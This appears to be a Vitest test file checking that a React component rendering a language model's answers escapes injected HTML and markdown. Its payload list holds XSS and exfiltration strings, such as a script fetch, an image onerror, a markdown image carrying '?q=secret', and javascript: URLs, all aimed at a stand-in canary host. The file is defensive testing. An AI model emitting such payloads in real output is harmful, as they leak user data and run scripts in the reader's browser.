import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import type { Answer } from '../../../src-main/contract/answer'
import { AnswerText } from '../../../src-renderer/conversation/answer-text'

const answer = (text: string, state: Answer['state']): Answer => ({
  id: 1, conversation: 1, question: 'q', text, state, failure: null, model: 'm', mode: 'passages', statements: [{ range: [0, text.length], support: 'not-found' }], citations: [], missingWords: [],
  coverage: { documents: [], complete: false }, tokens: { reused: 0, prefilled: 0, generated: 0 }, milliseconds: { prefill: 0, firstToken: 0, total: 0 }, asked: '',
})
const render = (text: string, state: Answer['state']): string => renderToStaticMarkup(<AnswerText answer={answer(text, state)} chosen={null} onOpen={() => undefined} isStreaming={state === 'writing'} />)

const canary = 'https://canary.test/x'
const payloads = [
  `<img src=${canary}>`, `<img src=x onerror="fetch('${canary}')">`, `![a](${canary}?q=secret)`, `[a](${canary})`, `[a][r]\n\n[r]: ${canary}`, `<a href="${canary}">x</a>`, `<script>fetch('${canary}')</script>`,
  `<iframe src="${canary}">`, `<svg><image href="${canary}"/></svg>`, `<style>@import url(${canary})</style>`, `<link rel=prefetch href=${canary}>`, `<form action=${canary}><input autofocus>`, `<meta http-equiv=refresh content="0;url=${canary}">`,
  `<video poster=${canary}>`, `<object data=${canary}>`, `\`\`\`html\n<img src=${canary}>\n\`\`\``, `**<img src=${canary}>**`, `1. <img src=${canary}>`, `# <img src=${canary}>`, `&lt;img src=${canary}&gt;`, 'javascript:alert(1)', '[a](javascript:alert(1))', '" onmouseover="alert(1)',
]
const allowed = /^<\/?(?:div|p|span|strong|em|code|pre|button)(?: (?:class|dir|title|role|aria-level|aria-label)="[^"<>]*")*>$/

describe('a model\'s words', () => {
  it.each(payloads)('stay words: %s', (payload) => {
    for (let length = 1; length <= payload.length; length += 1) check(render(payload.slice(0, length), 'writing'))
    check(render(payload, 'done'))
  })

  it('are drawn alike while they stream and afterwards', () => {
    const text = 'One **two** `three`\n\n- four'
    expect(render(text, 'writing').replace('answer-streaming', '')).toBe(render(text, 'done'))
  })

  it('are cited with a mark that says whether words and attention agree', () => {
    const chip = (confidence: 'high' | 'low'): string => {
      const place = { unit: 0, page: 3, pageLabel: null, section: [], paragraph: 1 }
      const citation = { ...place, marker: 1, statement: [0, 4], document: 'd', title: 'T', span: { start: { unit: 0, offset: 0 }, end: { unit: 0, offset: 4 } }, quote: 'q', verified: true, confidence } as const
      const cited: Answer = { ...answer('Yes.', 'done'), statements: [{ range: [0, 4], support: 'cited' }], citations: [citation] }
      return renderToStaticMarkup(<AnswerText answer={cited} chosen={null} onOpen={() => undefined} isStreaming={false} />)
    }
    expect(chip('high')).toMatch(/aria-label="Citation 1: [^"]+"/)
    expect(chip('high')).not.toContain('chip-open')
    expect(chip('low')).toMatch(/class="chip chip-open[^>]*aria-label="Citation 1, to be checked: [^"]+"|aria-label="Citation 1, to be checked: [^"]+"[^>]*class="chip chip-open/)
  })

  it('say once what was not found, to those who listen too', () => {
    expect(render('It **was** so.', 'done').match(/\(Not found in the text\)/g)).toHaveLength(1)
  })
})

function check(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>/g)) expect(tag).toMatch(allowed)
}
